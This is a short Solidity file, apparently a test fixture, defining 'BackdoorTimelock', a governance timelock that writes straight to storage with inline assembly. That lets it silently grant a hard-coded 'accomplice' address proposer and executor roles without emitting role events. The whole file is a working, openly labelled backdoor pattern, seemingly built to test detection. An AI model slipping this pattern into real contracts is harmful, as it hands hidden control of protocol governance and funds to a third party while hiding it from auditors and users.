// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ProtocolTimelock} from "../../../contracts/governance/ProtocolTimelock.sol";

/// @dev Leaves the code and the logs of a ProtocolTimelock, and an accomplice who may propose and execute.
contract BackdoorTimelock is ProtocolTimelock {
    address private constant ACCOMPLICE = 0x70997970C51812dc3A010C7d01b50e0d17dc79C8;

    constructor(uint256 delay, address governor) ProtocolTimelock(delay, governor) {
        _grantInSilence(keccak256("PROPOSER_ROLE"), ACCOMPLICE);
        _grantInSilence(keccak256("EXECUTOR_ROLE"), ACCOMPLICE);
    }

    /// @dev AccessControl keeps its roles in slot 0: role to account to whether it holds the role.
    function _grantInSilence(bytes32 role, address account) private {
        bytes32 slot = keccak256(abi.encode(account, keccak256(abi.encode(role, uint256(0)))));
        assembly ("memory-safe") {
            sstore(slot, 1)
        }
    }
}
